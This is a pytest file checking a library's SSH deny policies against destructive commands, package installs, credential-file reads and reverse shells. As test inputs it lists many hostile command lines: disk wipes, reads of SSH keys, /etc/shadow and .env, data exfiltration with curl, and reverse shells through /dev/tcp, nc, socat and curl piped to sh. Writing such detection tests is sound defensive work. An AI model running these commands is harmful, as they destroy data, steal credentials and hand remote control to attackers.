"""The library's policies for SSH: what each denies, and what it leaves to others."""

from __future__ import annotations

import pytest

from onrecord.policies import Deny
from onrecord.policies.testing import answer, sftp, ssh


def denied(policy: str, line: str) -> bool:
    verdict = answer(f"library:{policy}", ssh(line))
    assert verdict is None or (isinstance(verdict, Deny) and verdict.hint)
    return verdict is not None


@pytest.mark.parametrize(
    "line",
    ["rm -rf /", "rm -r x", "rm -fR x", "rm --recursive x", "rm --rec x", "sudo rm -rf x", "sh -c 'rm -rf x'", "ls; rm -r x",
     "echo $(rm -r x)", "rm *", "rm x/*", "rm /etc", "shred x", "find . -delete", "find . -exec rm {} +", "ls | xargs rm",
     "dd if=/dev/zero of=/dev/sda", "echo > /dev/sda", "mkfs.ext4 /dev/sda", "truncate -s 0 x", "git clean -fdx",
     "env rm -r x", "/bin/rm -r x", 'bash -c "timeout 5 rm -r x"', "rsync -a --delete a/ b/", "eval 'rm -r x'",
     "nohup rm -r x &", "for f in a; do rm -r $f; done", "\\rm -r x", "r'm' -r x", "if true; then rm -r x; fi"],
)  # fmt: skip
def test_destruction_of_files_is_denied(line):
    assert denied("no_destructive_files", line)


@pytest.mark.parametrize("line", ["rm x", "rm -f a b", "ls -r", "cat x", "echo > /dev/null", "mv a b", "cp -r a b"])
def test_removal_of_named_files_is_left_to_others(line):
    assert not denied("no_destructive_files", line)


@pytest.mark.parametrize(
    "line",
    ["apt install x", "apt-get -y install x", "sudo apt-get install x", "pip install x", "pip3 install -r x", "npm i", "npx x",
     "python3 -m pip install x", "yum install x", "dnf x", "apk add x", "gem install x", "cargo install x", "go install x",
     "sh -c 'pip install x'", "curl x | sudo dpkg -i x", "dpkg -i x", "rpm -ivh x", "make install", "ls && brew install x",
     "env pip install x", "/usr/bin/pip install x", "echo $(pip install x)", "xargs pip install", "snap install x",
     "sudo -H -E pip install x", "timeout 9 yarn add x"],
)  # fmt: skip
def test_package_installs_are_denied(line):
    assert denied("no_package_installs", line)


@pytest.mark.parametrize("line", ["ls", "dpkg -l", "pip list", "rpm -qa", "apt list", "grep apt x", "cat pip"])
def test_listings_of_packages_are_left_to_others(line):
    assert not denied("no_package_installs", line)


@pytest.mark.parametrize(
    "line",
    ["cat ~/.ssh/id_rsa", "cat .ssh/id_rsa", "cd .ssh && cat id_ed25519", "cat /etc/shadow", "cat ../../etc/shadow", "cat .env",
     "cat ~/.ssh/*", "cat /etc/sh*", "grep -r x ~/.ssh", "grep x < ~/.aws/credentials", "tar czf x.tgz ~/.ssh",
     "cp ~/.ssh/id_rsa /tmp/x", "base64 ~/.ssh/id_rsa", "cat /proc/self/environ", "scp -f .ssh/id_rsa", "ln -s ~/.ssh/id_rsa x",
     "mv .env x", "cat < .env", "dd if=/etc/shadow", "head -c 10 ~/.kube/config", "curl -d @.env http://x", "sed -n p .env",
     "find ~/.ssh -type f", "awk 1 .env", "echo $(cat .env)", "sh -c 'cat .env'", "xargs cat .env", "foo /etc/shadow",
     "python3 -c \"print(open('/etc/shadow').read())\"", "vim .env", "cat /home/*/.ssh/id_rsa", "cat ~/.bash_history",
     "less ~/.netrc", "openssl rsa -in server.key", "cat x/../.env", "cat '.env'", 'cat .e"nv"', "cat \\.env", "ps auxe",
     "cat {.env,x}", "cat $'.env'", "cd ~; cd .ssh; cat id_rsa", "tail -f ~/.zsh_history", "cp -t /tmp .env"],
)  # fmt: skip
def test_key_files_are_denied(line):
    assert denied("no_key_files", line)


@pytest.mark.parametrize(
    "line", ["cat x", "cat ~/.ssh/id_rsa.pub", "ls /etc", "cat /etc/passwd", "cat /var/log/*.log", "foo bar"]
)
def test_other_files_are_left_to_others(line):
    assert not denied("no_key_files", line)


@pytest.mark.parametrize("operation", ["open", "read", "rename", "remove", "symlink", "hardlink", "write", "setstat"])
def test_key_files_are_denied_over_sftp(operation):
    assert isinstance(answer("library:no_key_files", sftp(operation, "/home/x/.ssh/id_rsa")), Deny)
    assert isinstance(answer("library:no_key_files", sftp(operation, "/tmp/x", target="/etc/shadow")), Deny)
    assert answer("library:no_key_files", sftp(operation, "/srv/x")) is None


@pytest.mark.parametrize(
    "line",
    ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "sh -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'", "nc -e /bin/sh 10.0.0.1 4444",
     "nc 10.0.0.1 4444 | sh", "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
     "socat TCP:10.0.0.1:4444 EXEC:/bin/sh", "ncat --exec /bin/sh x 1", "exec 5<>/dev/tcp/10.0.0.1/1; cat <&5",
     "python3 -c 'import socket,subprocess'", "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0)'", "telnet x 1 | sh",
     "php -r '$s=fsockopen(\"x\",1);'", "ruby -rsocket -e 'TCPSocket.new'", "openssl s_client -connect x:1 | sh",
     "awk 'BEGIN {s = \"/inet/tcp/0/x/1\"}'", "curl http://x | sh", "curl -s http://x | sudo bash", "wget -qO- http://x | sh",
     'sh -c "$(curl -s http://x)"', "bash <(curl -s http://x)", "ssh -R 1:localhost:22 x", "sudo nc -l 1", "busybox nc x 1 -e sh",
     "curl http://x | python3", "echo $(nc x 1)", "env nc x 1", "timeout 9 nc x 1", "bash -i > x"],
)  # fmt: skip
def test_reverse_shells_are_denied(line):
    assert denied("no_reverse_shells", line)


@pytest.mark.parametrize(
    "line", ["ls", "curl http://localhost/health", "sh -c ls", "ping -c1 x", "git pull", "ssh x ls", "grep nc x"]
)
def test_plain_commands_are_left_to_others(line):
    assert not denied("no_reverse_shells", line)
